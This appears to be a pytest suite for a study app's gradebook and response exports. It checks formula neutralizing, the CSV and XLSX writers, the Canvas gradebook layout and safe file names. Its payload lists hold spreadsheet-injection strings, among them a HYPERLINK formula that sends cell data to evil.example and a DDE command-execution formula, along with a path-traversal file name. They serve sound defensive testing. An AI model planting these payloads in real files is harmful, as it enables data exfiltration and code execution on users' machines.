"""Class-result exports: formula neutralizing, CSV and XLSX writers, Canvas layout, file names."""

from __future__ import annotations

import csv
import io
import itertools
import re
import zipfile
from datetime import date, datetime, timedelta, timezone
from decimal import Decimal
from urllib.parse import unquote
from xml.etree import ElementTree

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from studyapp.core.exports import (
    CANVAS_POINTS_POSSIBLE,
    CSV_BOM,
    DANGEROUS_FIRST_CHARACTERS,
    EXCUSED,
    RESPONSES_COLUMNS,
    XLSX_MAX_CELL_CHARS,
    XLSX_MAX_ROWS,
    GradebookAssignment,
    GradebookStudent,
    ResponseAnswer,
    ResponseAttempt,
    ResponseRecord,
    canvas_gradebook,
    column_letters,
    content_disposition,
    csv_stream,
    export_filename,
    iso_utc,
    neutralize,
    response_records,
    response_text,
    responses_csv,
    responses_rows,
    responses_xlsx,
    sheet_title,
    slugify,
    xlsx_stream,
)
from studyapp.core.grading import item_ids, right_ids
from studyapp.core.qformat.model import Blank, Choice, Pair, Question

DANGEROUS = ["=", "+", "-", "@", "\t", "\r", "\n"]
PAYLOADS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "-5",
]
TRICKY = [
    "plain",
    "comma, inside",
    'a "quoted" word',
    "two\nlines",
    "windows\r\nlines",
    "détente",
    "Брежнев",
    "tab\tinside",
    "  spaces around  ",
    "",
    "'already quoted",
    "<r><t>x</t></r>",
    "a & b < c > d",
    "_x0041_ looks escaped",
    "bell\x07 and nul\x00",
]


def read_csv(data: bytes) -> list[list[str]]:
    assert data.startswith(CSV_BOM)
    return list(csv.reader(io.StringIO(data[len(CSV_BOM) :].decode("utf-8"), newline="")))


def excel_text(value: str) -> str:
    """Undo Excel's `_xHHHH_` escaping, as Excel does on reading (openpyxl leaves it in place)."""
    return re.sub(r"_x([0-9A-Fa-f]{4})_", lambda m: chr(int(m.group(1), 16)), value)


def open_xlsx(data: bytes):
    return load_workbook(io.BytesIO(data))


def sheet_xml(data: bytes, index: int = 1) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return archive.read(f"xl/worksheets/sheet{index}.xml").decode("utf-8")


def expected_text(value: object) -> str:
    """What a CSV reader gets back for a cell."""
    cell = neutralize(value)
    return cell if isinstance(cell, str) else str(cell)


# --- neutralize -------------------------------------------------------------------------------


@pytest.mark.parametrize("prefix", DANGEROUS)
def test_each_dangerous_prefix_is_quoted(prefix):
    assert neutralize(prefix + "x") == "'" + prefix + "x"
    assert neutralize(prefix) == "'" + prefix


def test_numbers_stay_numbers_but_numeric_text_does_not():
    assert neutralize(-5) == -5 and type(neutralize(-5)) is int
    assert neutralize(-5.5) == -5.5
    assert neutralize(Decimal("-1.25")) == Decimal("-1.25")
    assert neutralize(10.0) == 10 and type(neutralize(10.0)) is int
    # Binary noise from adding points goes; real digits stay.
    assert repr(neutralize(4.04 + 4.04 + 7.05)) == "15.13" and repr(neutralize(0.1 + 0.2)) == "0.3"
    assert neutralize(8.08) == 8.08 and neutralize(1 / 3) == 0.333333333333333 and neutralize(1e6 + 0.05) == 1000000.05
    assert neutralize(11.95 + 7.05) == 19 and type(neutralize(11.95 + 7.05)) is int
    assert neutralize("-5") == "'-5"
    assert neutralize("5") == "5"


def test_other_values():
    assert neutralize(None) == ""
    assert neutralize(float("nan")) == "" and neutralize(float("-inf")) == ""
    assert neutralize(True) == 1
    assert neutralize("safe text") == "safe text"
    assert neutralize(" =1+1") == " =1+1"  # a leading space keeps it text in every spreadsheet
    assert neutralize(datetime(2026, 11, 28, 15, 3, 5, tzinfo=timezone(timedelta(hours=1)))) == "2026-11-28T14:03:05Z"
    assert neutralize(date(2026, 11, 28)) == "2026-11-28"

    class Shouty:
        def __str__(self):
            return "=evil()"

    assert neutralize(Shouty()) == "'=evil()"


@given(st.text())
def test_no_text_cell_starts_dangerously(text):
    cell = neutralize(text)
    assert isinstance(cell, str)
    assert cell[:1] not in DANGEROUS_FIRST_CHARACTERS
    assert cell in (text, "'" + text)


# --- CSV --------------------------------------------------------------------------------------


def test_csv_starts_with_bom_and_uses_crlf():
    data = b"".join(csv_stream([["A", "B"]], [["x", 1]]))
    assert data == CSV_BOM + b'"A","B"\r\n"x",1\r\n'
    assert b"".join(csv_stream([], [])) == CSV_BOM


def test_csv_round_trips_cell_by_cell():
    rows = [[text, index, index + 0.5, None, Decimal("2.25")] for index, text in enumerate(TRICKY + PAYLOADS)]
    read = read_csv(b"".join(csv_stream([["text", "n", "x", "none", "d"]], rows)))
    assert read[0] == ["text", "n", "x", "none", "d"]
    assert len(read) == len(rows) + 1
    for got, row in zip(read[1:], rows):
        assert got == [expected_text(value) for value in row]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_csv_neutralizes_every_text_cell(payload):
    header = [[payload, "ok"]]
    read = read_csv(b"".join(csv_stream(header, [[payload, payload, 3, -5]])))
    assert read[0] == ["'" + payload, "ok"]
    assert read[1] == ["'" + payload, "'" + payload, "3", "-5"]  # the number -5 stays a number


def test_csv_quotes_text_and_leaves_numbers_bare():
    data = b"".join(csv_stream([], [["a;=1+1", -5, 2.5, "-5"]]))
    assert data[len(CSV_BOM) :] == b'"a;=1+1",-5,2.5,"\'-5"\r\n'


def test_csv_streams_in_batches_without_reading_everything():
    endless = ([str(n), n] for n in itertools.count())
    chunks = csv_stream([["n", "value"]], endless, batch_rows=10)
    first, second = next(chunks), next(chunks)
    assert first.startswith(CSV_BOM) and first.count(b"\r\n") == 10
    assert second.count(b"\r\n") == 10


@given(st.lists(st.lists(st.one_of(st.text(), st.integers(), st.none()), min_size=1, max_size=4), max_size=5))
def test_csv_never_holds_a_dangerous_text_cell(rows):
    read = read_csv(b"".join(csv_stream([], rows)))
    assert len(read) == len(rows)
    for got, row in zip(read, rows):
        assert got == [expected_text(value) for value in row]
        for value, cell in zip(row, got):
            if not isinstance(value, int):
                assert cell[:1] not in DANGEROUS_FIRST_CHARACTERS


# --- XLSX -------------------------------------------------------------------------------------


def test_xlsx_keeps_types_and_neutralizes_text():
    rows = [[payload, -5, 2.5, "-5", None] for payload in PAYLOADS]
    data = b"".join(xlsx_stream("Responses", [["Text", "Int", "Float", "Typed", "Empty"]], rows))
    sheet = open_xlsx(data)["Responses"]
    values = list(sheet.iter_rows(min_row=2))
    assert len(values) == len(PAYLOADS)
    for payload, (text, integer, number, typed, empty) in zip(PAYLOADS, values):
        assert text.data_type == "s" and excel_text(text.value) == payload and text.quotePrefix
        assert integer.data_type == "n" and integer.value == -5 and isinstance(integer.value, int)
        assert number.data_type == "n" and number.value == 2.5
        assert typed.data_type == "s" and typed.value == "-5" and typed.quotePrefix
        assert empty.value is None
    assert "<f>" not in sheet_xml(data)


@pytest.mark.parametrize("prefix", DANGEROUS)
def test_xlsx_neutralizes_each_prefix(prefix):
    data = b"".join(xlsx_stream("S", [[prefix + "SUM(1,2)"]], [[prefix + "1+1", prefix]]))
    sheet = open_xlsx(data).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert [excel_text(cell.value) for cell in cells] == [prefix + "SUM(1,2)", prefix + "1+1", prefix]
    assert all(cell.data_type == "s" and cell.quotePrefix for cell in cells)


def test_xlsx_marks_formula_like_text_with_a_quote_prefix_style_not_an_apostrophe():
    """Excel's own way to keep text that looks like a formula as text: the cell's style has quotePrefix,
    so the apostrophe neither shows nor becomes part of the value (a CSV still gets the OWASP apostrophe)."""
    rows = [["=1+1", "plain", "'already quoted", "@SUM(A1:A2)", 3, "-5", "a=b"]]
    data = b"".join(xlsx_stream("S", [["=Title", "Name"]], rows))
    sheet = open_xlsx(data).active
    (title, name), (formula, plain, quoted, at, number, minus, inner) = (
        row[:2] if n == 1 else row for n, row in enumerate(sheet.iter_rows(), 1)
    )
    assert [formula.value, at.value, minus.value] == ["=1+1", "@SUM(A1:A2)", "-5"]
    assert formula.quotePrefix and at.quotePrefix and minus.quotePrefix
    assert formula.data_type == at.data_type == minus.data_type == "s"
    assert not plain.quotePrefix and not inner.quotePrefix and not number.quotePrefix
    assert quoted.value == "'already quoted" and not quoted.quotePrefix  # typed apostrophes are kept as typed
    assert title.value == "=Title" and title.quotePrefix and title.font.b  # a header keeps its bold
    assert name.value == "Name" and not name.quotePrefix and name.font.b
    assert 'quotePrefix="1"' in zipfile.ZipFile(io.BytesIO(data)).read("xl/styles.xml").decode()
    assert "<f>" not in sheet_xml(data)
    csv_row = read_csv(b"".join(csv_stream([], rows)))[0]
    assert csv_row[0] == "'=1+1" and csv_row[5] == "'-5"


def test_xlsx_text_round_trips_and_never_becomes_markup():
    data = b"".join(xlsx_stream("Text", [["value"]], [[text] for text in TRICKY]))
    sheet = open_xlsx(data).active
    got = [row[0].value for row in sheet.iter_rows(min_row=2, max_col=1)]
    expected = [text if text else None for text in TRICKY]
    assert [excel_text(value) if value is not None else None for value in got] == expected
    xml = sheet_xml(data)
    assert "<r><t>" not in xml and "<f>" not in xml  # "<r>...</r>" stays text, not a rich string


def test_xlsx_parts_are_well_formed_xml():
    data = b"".join(xlsx_stream("A & <B>", [["h"]], [[text, 1] for text in TRICKY + PAYLOADS]))
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        assert archive.testzip() is None
        for name in archive.namelist():
            ElementTree.fromstring(archive.read(name))
    assert open_xlsx(data).sheetnames == ["A & <B>"]


def test_xlsx_header_is_bold_and_frozen():
    header, rows = canvas_gradebook([], [GradebookAssignment(1, "Quiz", 10)])
    sheet = open_xlsx(b"".join(xlsx_stream("Gradebook", header, rows))).active
    assert sheet.freeze_panes == "A3"
    assert sheet["A1"].font.b and sheet["A2"].font.b


def test_xlsx_cuts_text_at_excels_cell_limit():
    data = b"".join(xlsx_stream("S", [], [["x" * (XLSX_MAX_CELL_CHARS + 10), "<" * (XLSX_MAX_CELL_CHARS + 1)]]))
    first, second = next(open_xlsx(data).active.iter_rows())
    assert first.value == "x" * XLSX_MAX_CELL_CHARS
    assert second.value == "<" * XLSX_MAX_CELL_CHARS


def test_xlsx_continues_on_a_new_sheet_past_the_row_limit():
    data = b"".join(xlsx_stream("Responses", [["n"]], ([n] for n in range(7)), max_rows=4))
    book = open_xlsx(data)
    assert book.sheetnames == ["Responses", "Responses (2)", "Responses (3)"]
    columns = [[cell.value for cell in book[name]["A"]] for name in book.sheetnames]
    assert columns == [["n", 0, 1, 2], ["n", 3, 4, 5], ["n", 6]]


def test_xlsx_with_no_rows_has_its_header():
    book = open_xlsx(b"".join(xlsx_stream("Empty", [["a", "b"]], [])))
    assert [[cell.value for cell in row] for row in book.active.iter_rows()] == [["a", "b"]]


def test_xlsx_streams_without_reading_everything():
    endless = ([f"row {n}", n] for n in itertools.count())
    chunks = xlsx_stream("S", [["text", "n"]], endless, batch_rows=50)
    started = b"".join(itertools.islice(chunks, 3))
    assert started.startswith(b"PK")


@settings(max_examples=max(10, settings().max_examples // 8))  # each example writes a workbook
@given(st.lists(st.text(min_size=1), min_size=1, max_size=5))
def test_xlsx_never_holds_a_dangerous_text_cell(texts):
    data = b"".join(xlsx_stream("S", [], [texts]))
    row = next(open_xlsx(data).active.iter_rows())
    assert [excel_text(cell.value) for cell in row] == texts
    for cell in row:
        # Text a spreadsheet would take for a formula is kept text by its style's quote prefix.
        assert cell.data_type == "s" and cell.quotePrefix == (excel_text(cell.value)[:1] in DANGEROUS_FIRST_CHARACTERS)


def test_lone_surrogates_are_replaced_not_fatal():
    text = "broken \ud800 text"
    assert read_csv(b"".join(csv_stream([], [[text]]))) == [["broken ? text"]]
    data = b"".join(xlsx_stream("S \ud800", [], [[text]]))
    assert open_xlsx(data).active["A1"].value == "broken \ufffd text"


def test_sheet_titles_and_columns():
    assert sheet_title("History 101: [Fall]/2026?") == "History 101- -Fall--2026-"
    assert sheet_title("x" * 40) == "x" * 31
    assert sheet_title("'") == "Sheet1" and sheet_title("") == "Sheet1"
    assert [column_letters(i) for i in (0, 25, 26, 27, 701, 702)] == ["A", "Z", "AA", "AB", "ZZ", "AAA"]


# --- Canvas gradebook -------------------------------------------------------------------------


def small_gradebook():
    assignments = [GradebookAssignment(11, "Linkage check", 10), GradebookAssignment(12, "Détente, part 2", 5.5)]
    students = [
        GradebookStudent(7, "Ann Example", "ann@example.edu", "Section 1", {11: 9.5, 12: EXCUSED}),
        GradebookStudent(8, "=Bob", "bob@example.edu", "Section 2", {11: 10.0}),
        GradebookStudent(9, "Cy", "cy@example.edu", "", {11: None, 12: 0}),
    ]
    return canvas_gradebook(students, assignments)


def test_canvas_header_rows_are_exact():
    header, rows = small_gradebook()
    assert header == [
        ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", "Linkage check (11)", "Détente, part 2 (12)"],
        ["    Points Possible", "", "", "", "", 10, 5.5],
    ]
    assert header[1][0] == CANVAS_POINTS_POSSIBLE
    assert list(rows) == [
        ["Ann Example", 7, "", "ann@example.edu", "Section 1", 9.5, "EX"],
        ["=Bob", 8, "", "bob@example.edu", "Section 2", 10.0, None],
        ["Cy", 9, "", "cy@example.edu", "", None, 0],
    ]


def test_canvas_gradebook_csv_is_exact():
    header, rows = small_gradebook()
    text = b"".join(csv_stream(header, rows)).decode("utf-8")
    assert text == (
        "\ufeff"
        '"Student","ID","SIS User ID","SIS Login ID","Section","Linkage check (11)","Détente, part 2 (12)"\r\n'
        '"    Points Possible","","","","",10,5.5\r\n'
        '"Ann Example",7,"","ann@example.edu","Section 1",9.5,"EX"\r\n'
        '"\'=Bob",8,"","bob@example.edu","Section 2",10,""\r\n'
        '"Cy",9,"","cy@example.edu","","",0\r\n'
    )


def test_canvas_gradebook_xlsx_cells():
    header, rows = small_gradebook()
    sheet = open_xlsx(b"".join(xlsx_stream("Gradebook", header, rows))).active
    values = [[cell.value for cell in row] for row in sheet.iter_rows()]
    assert values[0][:5] == ["Student", "ID", "SIS User ID", "SIS Login ID", "Section"]
    assert values[1] == ["    Points Possible", None, None, None, None, 10, 5.5]
    assert values[2] == ["Ann Example", 7, None, "ann@example.edu", "Section 1", 9.5, "EX"]
    assert values[3] == ["=Bob", 8, None, "bob@example.edu", "Section 2", 10, None]
    assert sheet["A4"].quotePrefix and not sheet["A3"].quotePrefix


# --- Responses --------------------------------------------------------------------------------


def test_responses_rows():
    moment = datetime(2026, 11, 28, 9, 3, 5, tzinfo=timezone(timedelta(hours=-5)))
    records = [
        ResponseRecord(
            "History 101",
            "Section 1",
            "Linkage check",
            "Ann",
            1,
            "linkage-whose-words",
            ("linkage", "sourcing"),
            "Dobrynin's, as Haig reports them",
            1.0,
            1.0,
            moment,
            True,
        ),
        ResponseRecord(
            "History 101",
            "Section 1",
            "Linkage check",
            "Ann",
            2,
            "linkage-essay",
            ("linkage",),
            "-5 is my answer",
            None,
            4.0,
            None,
        ),
    ]
    header, rows = responses_rows(records)
    assert header == [
        [
            "Class",
            "Section",
            "Assignment",
            "Student",
            "Attempt",
            "Question ID",
            "Themes",
            "Response",
            "Score",
            "Max score",
            "Submitted at",
            "Late",
        ]
    ]
    assert tuple(header[0]) == RESPONSES_COLUMNS
    assert list(rows) == [
        [
            "History 101",
            "Section 1",
            "Linkage check",
            "Ann",
            1,
            "linkage-whose-words",
            "linkage; sourcing",
            "Dobrynin's, as Haig reports them",
            1.0,
            1.0,
            "2026-11-28T14:03:05Z",
            "yes",
        ],
        [
            "History 101",
            "Section 1",
            "Linkage check",
            "Ann",
            2,
            "linkage-essay",
            "linkage",
            "-5 is my answer",
            None,
            4.0,
            "",
            "",
        ],
    ]
    header, rows = responses_rows(records)
    read = read_csv(b"".join(csv_stream(header, rows)))
    assert read[2][7] == "'-5 is my answer" and read[2][8] == "" and read[2][9] == "4"


def response_groups():
    """Attempts of every shape the responses writers meet: shared and one-off answers, formulas, numbers of
    each type, naive and aware times, late or not or in progress, an attempt without answers."""
    aware = datetime(2026, 11, 28, 9, 3, 5, tzinfo=timezone(timedelta(hours=-5)))
    naive = datetime(2026, 11, 29, 23, 59, 59)
    choice = ResponseAnswer("linkage-whose-words", ("linkage", "sourcing"), "Dobrynin's, as Haig reports them")
    formula = ResponseAnswer("linkage-short", ("linkage",), '=HYPERLINK("http://x")')
    tricky = [ResponseAnswer(f"q-{n}", (), text) for n, text in enumerate(TRICKY + PAYLOADS)]
    long = ResponseAnswer("essay", ("a", "b", "c"), "x" * (XLSX_MAX_CELL_CHARS + 5))
    people = [
        ("History 101", "Section 1", "Linkage check", "Ann", 1, aware, True),
        ("History 101", "", "=Quiz", "-Bob", 2, None, None),
        ("History 101", "Section 2", "Quiz & <two>", "Zoë \ud800", 1, naive, False),
    ]
    numbers = [(1.0, 1.0), (0.0, 1.0), (None, 4.0), (2, 4), (Decimal("1.0"), 1.0), (float("nan"), 1.0)]
    numbers += [(4.04 + 4.04 + 7.05, 20.0), (2.0**60, 2.0**60), (2**60, 2**60), (-0.0, 1.0), (True, 1.0)]
    groups = []
    for n, person in enumerate(people):
        answers = [(choice, score, most) for score, most in numbers]
        answers += [(formula, 0.0, 1.0), (choice, 1.0, 1.0), (tricky[n], 0.5, 1.0), (tricky[-n - 1], None, 1.0)]
        answers += [(ResponseAnswer(choice.question_id, choice.themes, choice.response), 1.0, 1.0)]
        if n == 1:
            answers.append((long, None, 10.0))
        groups.append((ResponseAttempt(*person), answers))
    groups.insert(1, (ResponseAttempt("History 101", "Section 1", "Empty", "Ann", 1, None), []))
    return groups


def xml_parts(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


@pytest.mark.parametrize("batch_rows", [1, 7, 512])
def test_responses_csv_writes_the_bytes_of_the_general_writer(batch_rows):
    groups = response_groups()
    expected = b"".join(csv_stream(*responses_rows(response_records(groups))))
    assert b"".join(responses_csv(groups, batch_rows=batch_rows)) == expected
    read = read_csv(expected)
    assert read[0] == list(RESPONSES_COLUMNS) and len(read) == 1 + sum(len(answers) for _, answers in groups)
    assert read[1][7] == "Dobrynin's, as Haig reports them" and read[1][8:10] == ["1", "1"]
    assert {"'-5", "'" + '=HYPERLINK("http://x")'} <= {row[7] for row in read}  # neutralized
    assert {"'-Bob", "Zoë ?"} <= {row[3] for row in read}


def test_responses_csv_memory_is_bounded(monkeypatch):
    """Repeated answers reuse written cells, but no more than RESPONSES_MEMO_CHARS of them are kept."""
    monkeypatch.setattr("studyapp.core.exports.RESPONSES_MEMO_CHARS", 100)
    groups = response_groups()
    expected = b"".join(csv_stream(*responses_rows(response_records(groups))))
    assert b"".join(responses_csv(groups)) == expected


@pytest.mark.parametrize("max_rows", [4, XLSX_MAX_ROWS])
def test_responses_xlsx_writes_the_sheets_of_the_general_writer(max_rows):
    groups = response_groups()
    header, rows = responses_rows(response_records(groups))
    expected = xml_parts(b"".join(xlsx_stream("Responses", header, rows, max_rows=max_rows)))
    written = xml_parts(b"".join(responses_xlsx("Responses", groups, batch_rows=5, max_rows=max_rows)))
    assert written == expected
    assert (len(expected) > 6) == (max_rows == 4)  # past the row limit, more sheets
    sheet = open_xlsx(b"".join(responses_xlsx("Responses", groups))).active
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)


@settings(max_examples=max(10, settings().max_examples // 4))
@given(
    st.lists(
        st.tuples(
            st.text(max_size=8),
            st.lists(st.tuples(st.integers(0, 3), st.one_of(st.none(), st.floats(), st.integers())), max_size=4),
        ),
        max_size=4,
    ),
    st.lists(st.text(max_size=12), min_size=4, max_size=4),
)
def test_responses_writers_agree_with_the_general_writers(people, texts):
    answers = [ResponseAnswer(f"q{n}", (text[:3],), text) for n, text in enumerate(texts)]
    groups = [
        (ResponseAttempt("C", "S", "A", name, 1, None), [(answers[k], score, 1.0) for k, score in rows])
        for name, rows in people
    ]
    header, rows = responses_rows(response_records(groups))
    assert b"".join(responses_csv(groups)) == b"".join(csv_stream(header, rows))
    header, rows = responses_rows(response_records(groups))
    assert xml_parts(b"".join(responses_xlsx("R", groups))) == xml_parts(b"".join(xlsx_stream("R", header, rows)))


def test_responses_writers_stream_without_reading_everything():
    answer = ResponseAnswer("q", ("t",), "text")
    endless = (
        (ResponseAttempt("C", "S", "A", f"student {n}", 1, None), [(answer, 1.0, 1.0)]) for n in itertools.count()
    )
    assert b"".join(itertools.islice(responses_csv(endless, batch_rows=10), 3)).startswith(CSV_BOM)
    assert b"".join(itertools.islice(responses_xlsx("R", endless, batch_rows=50), 3)).startswith(b"PK")


def test_iso_utc():
    assert iso_utc(None) == ""
    assert iso_utc(datetime(2026, 11, 28, 14, 3, 5, 999)) == "2026-11-28T14:03:05Z"


BASE = dict(prompt="p", explanation="e", themes=("linkage",), passages=("memo-linkage",), difficulty=1)
SINGLE = Question(
    id="s", type="single", choices=(Choice("a", "Brezhnev", False), Choice("b", "Dobrynin", True)), **BASE
)
MULTIPLE = Question(
    id="m",
    type="multiple",
    choices=(Choice("a", "Cuba", True), Choice("b", "Poland", False), Choice("c", "Afghanistan", True)),
    **BASE,
)
ORDERING = Question(id="o", type="ordering", items=("first", "second", "third"), **BASE)
MATCHING = Question(
    id="m",
    type="matching",
    pairs=(
        Pair("a", "Haig", "Secretary"),
        Pair("b", "Dobrynin", "Ambassador"),
        Pair("c", "Brezhnev", "General Secretary"),
    ),
    distractors=("Senator",),
    **BASE,
)
CLOZE = Question(id="c", type="cloze", blanks=tuple(Blank(str(n), ("x",)) for n in range(1, 11)), **BASE)
EVIDENCE = Question(id="e", type="evidence", evidence_passage="memo-linkage", **BASE)
QUOTE = "First sentence here. Second sentence here.\n\nA third one."
ITEMS = item_ids(ORDERING)
RIGHTS = right_ids(MATCHING)


@pytest.mark.parametrize(
    ("question", "response", "text"),
    [
        (SINGLE, None, ""),
        (SINGLE, {}, ""),
        (SINGLE, ["not", "a", "mapping"], ""),
        (SINGLE, {"choice": "b"}, "Dobrynin"),
        (SINGLE, {"choice": "zz"}, "zz"),
        (SINGLE, {"choice": None}, ""),
        (None, {"choice": "b"}, "b"),
        (MULTIPLE, {"choices": ["c", "a"]}, "Afghanistan; Cuba"),
        (MULTIPLE, {"choices": []}, ""),
        (EVIDENCE, {"sentences": ["b", "c"]}, "Second sentence here.; A third one."),
        (None, {"text": "=1+1"}, "=1+1"),
        (None, {"value": "1,973"}, "1,973"),
        (ORDERING, {"order": [ITEMS[2], ITEMS[0], ITEMS[1]]}, "1. third; 2. first; 3. second"),
        (ORDERING, {"order": [ITEMS[1], "i000000"]}, "1. second; 2. i000000"),
        (
            MATCHING,
            {"matches": {"b": RIGHTS[0], "a": RIGHTS[1], "c": RIGHTS[3]}},
            "Haig → Ambassador; Dobrynin → Secretary; Brezhnev → Senator",
        ),
        (MATCHING, {"matches": {"a": RIGHTS[0], "b": None, "z": "r0"}}, "Haig → Secretary; Dobrynin → ; z → r0"),
        (CLOZE, {"blanks": {"10": "end", "2": "détente", "1": "1973"}}, "(1) 1973; (2) détente; (10) end"),
        (None, {"text": "x", "unexpected": [1, "é"]}, 'x; {"unexpected": [1, "é"]}'),
    ],
)
def test_response_text(question, response, text):
    assert response_text(question, response, quote=QUOTE) == text


def test_evidence_without_its_quote_shows_the_ids():
    assert response_text(EVIDENCE, {"sentences": ["b"]}) == "b"


# --- File names -------------------------------------------------------------------------------

SAFE_NAME = re.compile(r"[a-z0-9]+(-[a-z0-9]+)*-\d{4}-\d{2}-\d{2}\.[a-z0-9]+\Z")
DAY = date(2026, 11, 28)


@pytest.mark.parametrize(
    ("name", "expected"),
    [
        ("History 101", "history-101-gradebook-2026-11-28.csv"),
        ("../../etc/passwd", "etc-passwd-gradebook-2026-11-28.csv"),
        ('Hist "101" \\ C:\\x', "hist-101-c-x-gradebook-2026-11-28.csv"),
        ("Détente & Co.", "detente-co-gradebook-2026-11-28.csv"),
        ("История", "class-gradebook-2026-11-28.csv"),
        ("", "class-gradebook-2026-11-28.csv"),
        ("\u202eexe.csv", "exe-csv-gradebook-2026-11-28.csv"),
    ],
)
def test_export_filename_is_safe(name, expected):
    assert export_filename(name, "gradebook", DAY, "csv") == expected
    assert SAFE_NAME.match(expected)


def test_export_filename_may_keep_other_scripts():
    assert export_filename("История 101", "responses", DAY, "xlsx", ascii_only=False) == (
        "история-101-responses-2026-11-28.xlsx"
    )


@pytest.mark.parametrize("ext", ["", "../csv", "c s v", "x" * 11, 'csv"'])
def test_export_filename_refuses_odd_extensions(ext):
    with pytest.raises(ValueError):
        export_filename("History", "gradebook", DAY, ext)


@given(st.text(), st.sampled_from(["gradebook", "responses"]), st.sampled_from(["csv", "xlsx"]))
def test_any_class_name_gives_a_safe_file_name(name, kind, ext):
    filename = export_filename(name, kind, DAY, ext)
    assert SAFE_NAME.match(filename), filename
    assert ".." not in filename and len(filename) < 100


def test_content_disposition():
    assert content_disposition("history-101-gradebook-2026-11-28.csv") == (
        'attachment; filename="history-101-gradebook-2026-11-28.csv"'
    )
    value = content_disposition("история-101-gradebook-2026-11-28.csv")
    assert value == (
        'attachment; filename="101-gradebook-2026-11-28.csv"; '
        "filename*=UTF-8''%D0%B8%D1%81%D1%82%D0%BE%D1%80%D0%B8%D1%8F-101-gradebook-2026-11-28.csv"
    )
    assert content_disposition('a"b\r\nX: y.csv') == (
        "attachment; filename=\"a-b-X-y.csv\"; filename*=UTF-8''a%22b%0D%0AX%3A%20y.csv"
    )
    assert content_disposition("\ud800.csv") == "attachment; filename=\"csv\"; filename*=UTF-8''%3F.csv"
    with pytest.raises(ValueError):
        content_disposition("x.csv", "attachment; evil")


@given(st.text(min_size=1))
def test_content_disposition_is_one_ascii_header_line(name):
    value = content_disposition(name)
    assert value.isascii() and "\r" not in value and "\n" not in value
    fallback = re.match(r'attachment; filename="([A-Za-z0-9._-]+)"', value)
    assert fallback
    if "filename*=" in value:
        assert unquote(value.split("filename*=UTF-8''", 1)[1]) == name


def test_slugify():
    assert slugify("  Hello,  World!  ") == "hello-world"
    assert slugify("x" * 100) == "x" * 60
    assert slugify("Straße") == "strasse"
